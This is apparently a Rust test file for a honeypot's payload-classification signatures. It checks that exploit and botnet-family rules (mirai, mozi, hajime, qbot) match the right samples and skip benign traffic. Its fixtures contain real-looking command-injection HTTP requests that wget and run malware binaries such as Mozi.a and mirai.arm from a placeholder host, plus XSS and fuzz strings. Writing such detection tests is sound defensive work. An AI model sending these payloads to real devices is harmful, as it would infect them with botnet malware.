//! Every signature of contrib/signatures.toml on matching and similar payloads.

use std::collections::BTreeSet;

use honeyxdp_signatures::{Classification, Confidence, Dropper, Signature, Signatures, Tool};

use crate::payloads::{BENIGN, cases};

fn shown(payload: &[u8]) -> String {
    String::from_utf8_lossy(payload).escape_debug().to_string()
}

/// Ids of the matching signatures: exploit, family.
fn ids<'s>(classification: &Classification<'s>) -> [Option<&'s str>; 2] {
    [classification.exploit, classification.family].map(|found| found.map(|found| found.signature.id.as_str()))
}

#[test]
fn every_signature_has_hits_and_misses() {
    let signatures = Signatures::built_in().unwrap();
    let cases = cases();
    for Signature { id, .. } in signatures.exploits().iter().chain(signatures.families()) {
        let of_rule: Vec<_> = cases.iter().filter(|case| case.signature == id).collect();
        let [case] = of_rule[..] else { panic!("{id} needs one case in tests/signatures/payloads") };
        assert!(!case.hits.is_empty() && !case.misses.is_empty(), "{id} needs hits and misses");
    }
    for case in &cases {
        for payload in &case.hits {
            assert!(
                ids(&signatures.classify(payload)).contains(&Some(case.signature)),
                "{}: {}",
                case.signature,
                shown(payload)
            );
        }
        for payload in &case.misses {
            assert!(
                !ids(&signatures.classify(payload)).contains(&Some(case.signature)),
                "{}: {}",
                case.signature,
                shown(payload)
            );
        }
    }
}

#[test]
fn exploit_or_dropper_alone_is_no_family() {
    let signatures = Signatures::built_in().unwrap();
    let exploits: BTreeSet<_> = signatures.exploits().iter().map(|signature| signature.id.as_str()).collect();
    for case in cases().iter().filter(|case| exploits.contains(case.signature)) {
        for payload in &case.hits {
            let classification = signatures.classify(payload);
            assert!(classification.family.is_none(), "{:?} by {}", ids(&classification), shown(payload));
        }
    }
}

#[test]
fn legitimate_clients_match_nothing() {
    let signatures = Signatures::built_in().unwrap();
    for (name, payload) in BENIGN {
        let classification = signatures.classify(payload);
        assert_eq!((ids(&classification), &classification.dropper), ([None, None], &None), "{name}");
    }
}

#[test]
fn truncated_payload_matches_by_its_prefix() {
    let signatures = Signatures::built_in().unwrap();
    let whole =
        b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/Mozi.a;sh+/tmp/Mozi.a HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n";
    let at = |needle: &str| shown(whole).find(needle).unwrap();
    for length in 0..=whole.len() {
        let classification = signatures.classify(&whole[..length]);
        assert_eq!(classification.exploit.is_some(), length > at("?"), "{length}");
        assert_eq!(classification.dropper.is_some(), length > at("192.0.2.1"), "{length}");
        assert_eq!(classification.family.is_some(), length > at("Mozi.a") + 5, "{length}");
    }
}

#[test]
fn classification_names_signature_and_regions() {
    let signatures = Signatures::built_in().unwrap();
    let classification = signatures
        .classify(b"POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=;wget+http://192.0.2.1:81/bins/mirai.arm");
    let (exploit, family) = (classification.exploit.unwrap(), classification.family.unwrap());
    assert_eq!(
        (exploit.signature.name.as_str(), exploit.regions.to_string()),
        ("EDB-48225", "method, uri, body".to_owned())
    );
    assert_eq!((family.signature.name.as_str(), family.regions.to_string()), ("mirai", "file".to_owned()));
    assert_eq!(family.signature.confidence, Confidence::B);
    let (host, path, file) = ("192.0.2.1".to_owned(), "/bins/mirai.arm".to_owned(), "mirai.arm".to_owned());
    assert_eq!(classification.dropper, Some(Dropper { tool: Tool::Wget, host, port: Some(81), path, file }));
}

#[test]
fn most_precise_signature_comes_first() {
    let signatures = Signatures::built_in().unwrap();
    // Mozi uses a user agent of Mirai variants.
    let mozi = b"GET /shell?wget+http://192.0.2.1/Mozi.m HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n";
    assert_eq!(ids(&signatures.classify(mozi)), [Some("EDB-41471/1"), Some("mozi/1")]);
    assert_eq!(signatures.exploits().last().unwrap().id, "dropper/1", "the least precise signature");
}

#[test]
fn names_belong_to_exploits_or_to_families() {
    let signatures = Signatures::built_in().unwrap();
    let names =
        |signatures: &[Signature]| signatures.iter().map(|signature| signature.name.clone()).collect::<BTreeSet<_>>();
    assert!(names(signatures.exploits()).is_disjoint(&names(signatures.families())));
    let families: Vec<_> = names(signatures.families()).into_iter().collect();
    assert_eq!(families, ["hajime", "mirai", "mozi", "qbot"]);
}

#[test]
fn hostile_payloads_match_nothing() {
    let signatures = Signatures::built_in().unwrap();
    let deep = [&b"<a>".repeat(100_000)[..], b"${IFS", &b"$(".repeat(100_000), &b"&amp;".repeat(100_000)].concat();
    for payload in [
        &b"GET /<script>alert(1)</script>\x1b[2J\x07\0 HTTP/1.1\r\nUser-Agent: \xff\xfe\xc3\x28\r\n\r\n\x80"[..],
        &b"%".repeat(10_000),
        &b"%0".repeat(10_000),
        &b"A".repeat(100_000),
        &b"GET ".repeat(10_000),
        &b"GET /".repeat(10_000),
        b"GET / HTTP/1.1",
        b"\r\n\r\n\r\n",
        b"\xff\xff\xff\xff",
        &deep,
    ] {
        assert_eq!(ids(&signatures.classify(payload)), [None, None]);
    }
    // Attacker-controlled text is passed on unchanged and bounded.
    let classification = signatures.classify(b"wget http://192.0.2.1/\x1b[2J<b>\xc3\xa4\xff;");
    assert_eq!(classification.dropper.unwrap().path, "/\u{1b}[2J");
    let long = [&b"wget http://192.0.2.1/"[..], &b"a".repeat(100_000)].concat();
    assert_eq!(signatures.classify(&long).dropper.unwrap().file.len(), honeyxdp_signatures::LONGEST);
}
